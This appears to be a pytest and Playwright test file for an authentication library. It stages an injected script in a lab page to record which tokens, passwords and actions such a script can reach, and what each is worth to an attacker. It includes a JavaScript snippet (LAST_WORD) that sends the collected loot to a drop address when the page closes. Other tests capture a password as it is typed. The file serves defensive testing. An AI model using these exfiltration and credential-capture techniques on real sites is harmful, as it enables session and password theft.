"""A thief's script in somebody's page: what it can carry away, and what that is worth without the user's browser.

The script runs with the page's own rights, before every script of the page. What it finds is handed to a program elsewhere
after the page is closed. Every attempt and its outcome is a row of docs/explanation/what-a-script-can-steal.md.
"""

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from keyturn.settings import CookieSettings
from tests.browser.authority import Authority
from tests.browser.lab.elsewhere import ACCESS_TOKEN, NOTHING, REFRESH_TOKEN, UNBOUND, Elsewhere, access_tokens, at_home
from tests.browser.lab.stage import ATTEMPTS, SPY, Lab, attempt, loot_of, staged
from tests.browser.lab.table import Row, settle
from tests.browser.serving import wait_until
from tests.browser.shop import PASSWORD


@pytest.fixture
def jar(lab: Lab) -> Iterator[BrowserContext]:
    with lab.profile() as context:
        yield context


def leave(page: Page, jar: BrowserContext) -> str:
    """Close the page; give what the script has found. Of our cookies nothing ever is among it."""
    loot = loot_of(page)
    page.close()
    assert not REFRESH_TOKEN.search(loot)
    assert jar.cookies()
    assert [cookie["name"] for cookie in jar.cookies() if cookie["value"] in loot] == []
    return loot


def found_in(loot: str) -> str:
    """Say what kinds of secrets are in it."""
    return "access tokens" if access_tokens(loot) else NOTHING


@pytest.mark.ids("BC-01", "CK-07")
def test_no_place_where_a_page_can_keep_things_holds_a_token(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar, spied=False)
    page.evaluate("() => { window.loot = []; window.keep = text => loot.push(text) }")
    page.evaluate(f"() => {{ {ATTEMPTS} }}")
    found = attempt(page, "readEverything")
    assert "you are u-alice" in found  # the document itself was read
    assert not ACCESS_TOKEN.search(found)
    page.evaluate("found => { loot.push(found) }", found)
    loot = leave(page, jar)
    settle(
        Row(
            attempt="reads localStorage, sessionStorage, IndexedDB, caches, files, cookies, address, history, globals, the document",
            got=found_in(loot),
            elsewhere=thief.worth(loot),
        )
    )


@pytest.mark.ids("CK-07")
def test_a_script_that_listens_from_the_beginning_hears_access_tokens_and_nothing_else(
    lab: Lab, jar: BrowserContext, thief: Elsewhere
) -> None:
    page = lab.sign_in(jar)
    page.locator("#me").click()
    loot = leave(page, jar)
    assert access_tokens(loot)
    settle(
        Row(
            attempt="comes before the client and replaces fetch, XMLHttpRequest, Request, Headers, Response, Promise, JSON, BroadcastChannel, locks",
            got=found_in(loot),
            elsewhere=thief.worth(loot),
            remedy=UNBOUND,
        )
    )


@pytest.mark.ids("CK-07")
def test_a_script_that_comes_late_hears_no_more(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar, spied=False)
    page.evaluate(f"() => {{ {SPY} }}")
    page.locator("#me").click()
    page.evaluate("() => fetch('/me')")  # that a late script hears something at all
    loot = leave(page, jar)
    assert "/me" in loot
    settle(
        Row(
            attempt="comes after the client and replaces them then",
            got=found_in(loot),
            elsewhere=thief.worth(loot),
            remedy=UNBOUND,
        )
    )


@pytest.mark.ids("CK-07", "RT-13", "XS-12")
def test_a_script_that_turns_the_key_itself_gets_a_bound_access_token(
    lab: Lab, jar: BrowserContext, thief: Elsewhere
) -> None:
    page = lab.sign_in(jar)
    first = len(access_tokens(loot_of(page)))
    assert attempt(page, "refresh")[0] == 200
    loot = leave(page, jar)
    assert len(access_tokens(loot)) > first
    assert "cache-control" in loot  # header fields were read
    assert not re.search(r'set-cookie(:|",)', loot, re.IGNORECASE)
    settle(
        Row(
            attempt="sends `POST /auth/refresh` itself, also asking for body transport, and reads body, header fields and Set-Cookie",
            got="access tokens; no refresh token, no Set-Cookie",
            elsewhere=thief.worth(loot),
            remedy=UNBOUND,
        )
    )


def test_a_hoard_of_access_tokens_is_over_as_soon_as_one(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar)
    attempt(page, "hoard", 5)
    tokens = access_tokens(leave(page, jar))
    assert len(tokens) >= 6
    settle(
        Row(
            attempt="makes access tokens for later",
            got="as many as it likes; all end with the life of the newest",
            elsewhere=thief.worth("\n".join(tokens[-6:])),
            remedy=UNBOUND,
        )
    )


@pytest.mark.ids("XS-13", "XS-12")
def test_frames_and_odd_methods_show_nothing(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar)
    page.evaluate("() => { loot.length = 0 }")
    attempt(page, "look", ["/auth/session", "/auth/sessions", "/auth/refresh", "/auth/logout"])
    loot = leave(page, jar)
    assert "closed to scripts" in loot  # frame-ancestors 'none': an error page of the browser's
    assert "token_missing" in loot
    assert "TypeError" in loot
    settle(
        Row(
            attempt="opens our routes in frames, by GET, by TRACE",
            got="frames: refused by `frame-ancestors 'none'`; GET: 401 or 405; TRACE: refused by the browser",
            elsewhere=thief.worth(loot),
        )
    )


def test_while_the_page_is_open_the_script_is_the_user(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar)
    did = attempt(page, "act")
    assert did.pop("stepUp") == [401, "invalid_credentials"]
    assert {name: status for name, (status, _) in did.items()} == dict.fromkeys(did, 200)
    loot = leave(page, jar)
    settle(
        Row(
            attempt="calls the API, lists sessions, ends the others, asks for step-up without the password",
            got="**not stopped**: it acts as the user; step-up alone is refused (401 `invalid_credentials`)",
            elsewhere=thief.worth(loot),
            remedy="ask for the password again where it matters (`auth.fresh`); what was done stays done",
        )
    )


def test_a_password_that_is_typed_into_the_page_is_the_thiefs(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar)
    loot = leave(page, jar)
    assert f"typed: {PASSWORD}" in loot
    assert thief.signs_in("alice", PASSWORD)
    settle(
        Row(
            attempt="reads the password while the user types it",
            got="**not stopped**: the password",
            elsewhere="**a session of the thief's own**, until the password is changed and `end_user` called",
            remedy="sign in on a page with no scripts but your own, or without passwords",
        )
    )


LAST_WORD = """drop => addEventListener('pagehide', () => {
    fetch('/auth/refresh', {method: 'POST', keepalive: true})
    navigator.sendBeacon('/auth/refresh')
    fetch(drop, {method: 'POST', mode: 'no-cors', keepalive: true, body: loot.join('\\n')})
})"""


def test_what_is_sent_at_the_last_moment_is_worth_no_more(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar)
    page.evaluate(LAST_WORD, lab.drop)
    lab.carried.clear()
    page.close(run_before_unload=True)
    wait_until(lambda: lab.carried)
    loot = lab.carried[0]
    assert access_tokens(loot)
    assert not REFRESH_TOKEN.search(loot)
    settle(
        Row(
            attempt="sends what it has to an address of the thief's at the moment when the page is closed (keepalive, beacon)",
            got=found_in(loot) + ", sent off",
            elsewhere=thief.worth(loot),
            remedy="`connect-src`, `form-action` and the like in a Content-Security-Policy",
        )
    )
    back = lab.visit(jar, says="signed in", spied=False)  # and the user is still signed in
    back.close()


@pytest.mark.ids("P2", "SE-02")
def test_a_sign_out_ends_what_was_carried_away_at_once(lab: Lab, jar: BrowserContext, thief: Elsewhere) -> None:
    page = lab.sign_in(jar)
    token = access_tokens(loot_of(page))[-1]
    assert thief.at_an_unchecked_api(token) == 200
    assert page.evaluate("async () => (await fetch('/auth/logout', {method: 'POST'})).status") == 204
    assert thief.at_an_unchecked_api(token) == 401
    settle(
        Row(
            attempt="carries an access token away, and the user signs out",
            got="one access token",
            elsewhere="nothing, at an API that leaves the binding unchecked too (at once in this process, in others within the staleness bound, 5 s)",
        )
    )


@pytest.mark.ids("CK-07", "BC-01")
def test_with_the_access_token_in_a_cookie_there_is_no_token_to_be_found(
    trusting: Browser, authority: Authority
) -> None:
    tls = authority.certify()
    with staged(trusting, tls, cookie=CookieSettings(access_in_cookie=True)) as lab, lab.profile() as jar:
        page = lab.sign_in(jar)
        assert attempt(page, "refresh")[0] == 200
        page.locator("#me").click()
        assert page.evaluate("async () => (await fetch('/me')).status") == 200  # and yet it is the user
        loot = leave(page, jar)
        with at_home(lab.shop, tls) as thief:
            settle(
                Row(
                    attempt="does all of this where the access token travels in a cookie (`access_in_cookie`)",
                    got=found_in(loot) + "; **it acts as the user**, as everywhere",
                    elsewhere=thief.worth(loot),
                    remedy="that setting, where pages need to call no other host",
                )
            )
